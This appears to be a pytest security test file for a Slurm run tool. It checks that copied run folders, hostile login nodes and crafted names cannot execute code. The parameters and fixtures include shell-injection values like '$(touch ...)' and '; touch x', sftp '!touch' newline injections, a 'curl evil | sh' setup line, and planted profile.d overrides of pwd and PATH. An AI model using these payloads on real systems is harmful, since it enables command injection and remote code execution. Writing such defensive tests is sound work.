"""Run folders, files and login nodes that somebody else made: nothing of theirs is executed here.

Each of these attacks worked once. `trap` is what every one of them tries to make on this machine.
"""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from deepsynth.errors import DataError, DeepSynthError, RunError
from deepsynth.run.run import Run
from deepsynth.runners import runner_of
from deepsynth.runners.slurm.runner import SlurmRunner
from deepsynth.runners.slurm.site import Site
from tests.conftest import Answer
from tests.servers.remote import RemoteHost
from tests.support.toy import counted, counting, make_run, shell


@pytest.fixture
def trap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A file that no attack may make; the user has no settings and no memory of anything."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("DEEPSYNTH_HOME", str(tmp_path / "home"))
    monkeypatch.chdir(tmp_path)
    return tmp_path / "PWNED"


@pytest.fixture
def sites(trap: Path, tmp_path: Path) -> Path:
    """The user's own sites.yaml."""
    path = tmp_path / "config" / "deepsynth" / "sites.yaml"
    path.parent.mkdir(parents=True)
    path.write_text("hpc: {host: hpc}\n")
    return path


def copied_run(place: Path, **record: object) -> Run:
    """A run that somebody else sent, submitted to a site by that person."""
    run = make_run(place / "theirs", counting(1))
    run.event("run_started", runner="slurm:hpc")
    (run.path / "run.lock").touch()
    told = {"site_name": "hpc", "site": {"host": "hpc"}, "run_id": "theirs-1", "folder": "/x"}
    (run.path / "slurm.json").write_text(json.dumps(told | record))
    return run


@pytest.mark.parametrize("verb", ["status", "logs", "stop", "fetch"])
@pytest.mark.parametrize("site", [{}, {"host": "hpc"}], ids=["here", "there"])
def test_the_name_of_a_run_is_no_shell(
    verb: str, site: dict[str, str], trap: Path, tmp_path: Path, command: Callable[..., Answer]
) -> None:
    run = copied_run(tmp_path, site=site, site_name="slurm", run_id=f"x$(touch {trap})")
    told = command(verb, run.path)
    assert not trap.exists()
    assert told.code == 2
    assert "run_id" in told.err


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("run_id", "../../x"),
        ("run_id", "a b"),
        ("folder", "relative/runs/theirs-1"),
        ("folder", "/w/runs/another"),
        ("folder", "/w/\n!touch x/runs/theirs-1"),
        ("folder", "/w/../runs/theirs-1"),
        ("events", -5),
        ("events", "1; touch x"),
        ("sources", ["x"]),
        ("site", {"hots": "x"}),
        ("more", 1),
    ],
)
def test_what_a_run_says_of_its_site_is_read_strictly(
    field: str, value: object, trap: Path, tmp_path: Path, command: Callable[..., Answer]
) -> None:
    right = {"folder": "/w/runs/theirs-1"}
    told = command("status", copied_run(tmp_path, **(right | {field: value})).path)
    assert told.code == 2
    assert "slurm.json" in told.err
    assert field in told.err or "hots" in told.err


@pytest.mark.parametrize("verb", ["status", "logs", "stop", "fetch", "run"])
def test_a_site_that_only_a_copied_run_knows_is_not_reached(
    verb: str,
    sites: Path,
    trap: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    command: Callable[..., Answer],
) -> None:
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "ssh").write_text(f"#!/bin/sh\ntouch {trap}\nexit 255\n")
    (fake / "ssh").chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake}:{os.environ['PATH']}")
    evil = {"host": "evil", "environments": {"this": {"setup": ["curl evil | sh"]}}}
    run = copied_run(tmp_path, site=evil, folder="/w/runs/theirs-1")
    told = command(*(["run", "--resume"] if verb == "run" else [verb]), run.path)
    assert not trap.exists()
    assert told.code == 2
    assert verb == "run" or "--on hpc" in told.err
    with pytest.raises(RunError, match="hpc"):
        runner_of(run)


def test_the_person_names_the_site_of_a_run_from_another_machine(
    hpc: SlurmRunner,
    sites: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    command: Callable[..., Answer],
) -> None:
    run = make_run(tmp_path / "run", counting(3))
    hpc.run(run, run.plan.steps)
    assert command("status", run.path).code == 0, "this machine wrote where it is"
    monkeypatch.setenv("DEEPSYNTH_HOME", str(tmp_path / "another machine"))
    told = command("status", run.path)
    assert (told.code, "--on hpc" in told.err) == (2, True)
    told = command("status", run.path, "--on", "hpc")
    assert told.code == 0, told.err
    assert told.out.startswith(f"{run.path}: done")
    assert command("status", run.path).code == 0, "and is not asked again"


@pytest.fixture
def without_rsync(remote_host: RemoteHost) -> Iterator[None]:
    """A login node that has no rsync: files go by sftp."""
    remote_host.root("mv /usr/bin/rsync /usr/bin/rsync.away")
    yield
    remote_host.root("mv /usr/bin/rsync.away /usr/bin/rsync")


def test_a_line_break_in_a_name_is_no_command_of_sftp(
    hpc: SlurmRunner, without_rsync: None, trap: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "pages"
    (folder / f"x\n!touch {trap.name}\n").mkdir(parents=True)
    (folder / f"x\n!touch {trap.name}\n" / "page").write_text("page")
    step = shell("train", "true", sources={"data": str(folder)})
    with pytest.raises(DataError, match="line break") as caught:
        hpc.submit(make_run(tmp_path / "run", step))
    assert not trap.exists()
    assert caught.value.hint


HOSTILE_PWD = r"""
cat >/etc/profile.d/zz-evil.sh <<'D'
pwd() { printf '/home/alice/x\n!touch PWNED\n'; }
D
"""


def test_where_a_login_node_says_it_is_is_no_command_of_sftp(
    hpc: SlurmRunner, remote_host: RemoteHost, without_rsync: None, trap: Path, tmp_path: Path
) -> None:
    run = make_run(tmp_path / "run", counting(1))
    remote_host.root(HOSTILE_PWD)
    try:
        with pytest.raises(DeepSynthError, match="absolute"):
            hpc.submit(run)
    finally:
        remote_host.root("rm /etc/profile.d/zz-evil.sh")
    assert not trap.exists()


HOSTILE_LIST = r"""
mkdir -p /opt/evil
cat >/opt/evil/sha256sum <<'D'
#!/bin/sh
/usr/bin/sha256sum "$@"
printf '%064d  NAME\0' 0
D
chmod +x /opt/evil/sha256sum
echo 'PATH=/opt/evil:$PATH' >/etc/profile.d/zz-evil.sh
"""


@pytest.mark.parametrize("name", ["././plan.json", "././slurm.json", "./a/../plan.json", "/x"])
def test_what_a_login_node_lists_replaces_nothing_that_is_ours(
    name: str,
    hpc: SlurmRunner,
    remote_host: RemoteHost,
    without_rsync: None,
    trap: Path,
    tmp_path: Path,
) -> None:
    run = make_run(tmp_path / "run", counting(3))
    hpc.run(run, run.plan.steps)
    ours = {name: (run.path / name).read_bytes() for name in ("slurm.json", "plan.json")}
    folder = json.loads(ours["slurm.json"])["folder"]
    remote_host.root(f"cd '{folder}'; mkdir -p a; echo EVIL >slurm.json; cp slurm.json plan.json")
    remote_host.root(HOSTILE_LIST.replace("NAME", name))
    try:
        hpc.fetch(run)
    except DeepSynthError:
        pass  # to be refused is as good
    finally:
        remote_host.root("rm /etc/profile.d/zz-evil.sh")
    kept = {name: (run.path / name).read_bytes() for name in ours}
    assert b"EVIL" not in b"".join(kept.values())
    assert (run.path / "model" / "weights").read_text() == counted(3)


def test_what_lies_beside_a_run_is_not_imported(here: SlurmRunner, tmp_path: Path) -> None:
    run = make_run(tmp_path / "run", counting(1))
    for name in ("yaml", "json"):
        (run.path / f"{name}.py").write_text("raise SystemExit('imported from the run folder')\n")
    here.run(run, run.plan.steps)
    assert (run.path / "model" / "weights").read_text() == counted(1)


def test_a_connection_lends_the_other_side_nothing(hpc: SlurmRunner, tmp_path: Path) -> None:
    config = tmp_path / "ssh_config"
    config.write_text(
        "Host x\n  HostName localhost\n  ForwardAgent yes\n  ForwardX11 yes\n"
        "  RemoteForward 9001 localhost:22\n"
    )
    _, *options = hpc.connection.ssh
    argv = ["/usr/bin/ssh", "-F", config, *options, "-G", "x"]
    told = subprocess.run(argv, capture_output=True, text=True, check=True).stdout
    assert "forwardagent no\n" in told
    assert "forwardx11 no\n" in told
    assert "clearallforwardings yes\n" in told


def test_a_run_at_a_site_is_its_users_alone(
    hpc: SlurmRunner, remote_host: RemoteHost, tmp_path: Path
) -> None:
    (tmp_path / "page").write_text("page")
    write = 'mkdir -p "$0/model"; touch "$0/model/weights"'
    sources = {"page": str(tmp_path / "page")}
    run = make_run(tmp_path / "run", shell("train", write, sources=sources, outputs=["model"]))
    hpc.run(run, run.plan.steps)
    folder = json.loads((run.path / "slurm.json").read_text())["folder"]
    made = remote_host.root(f"stat -c %a '{folder}' '{folder}/model' '{folder}/model/weights'")
    assert made.split() == ["700", "700", "600"]


@pytest.mark.parametrize(
    "answer",
    [
        "train\t7; touch PWNED\t\t1\n",
        "train\t7\t0-3;x\t1\n",
        "train\t-w\t\t1\n",
        "no step\t7\t\t1\n",
    ],
)
def test_jobs_that_are_none_are_refused(answer: str, trap: Path, tmp_path: Path) -> None:
    run = copied_run(tmp_path, site={}, site_name="slurm", folder="/w/runs/theirs-1")
    (run.path / "slurm").mkdir()
    (run.path / "slurm" / "jobs.tsv").write_text(answer)
    tools = tmp_path / "bin"
    tools.mkdir()
    for name in ("squeue", "sacct", "scontrol", "scancel"):
        (tools / name).write_text("#!/bin/sh\n")
        (tools / name).chmod(0o755)
    path = f"{tools}:{os.environ['PATH']}"
    profile = {"PATH": path, "HOME": str(tmp_path)}
    (tmp_path / ".bash_profile").write_text(f"PATH={path}\n")
    with pytest.MonkeyPatch.context() as patch:
        for key, value in profile.items():
            patch.setenv(key, value)
        with pytest.raises(DeepSynthError, match="jobs"):
            SlurmRunner("slurm", Site()).status(run)
    assert not trap.exists()
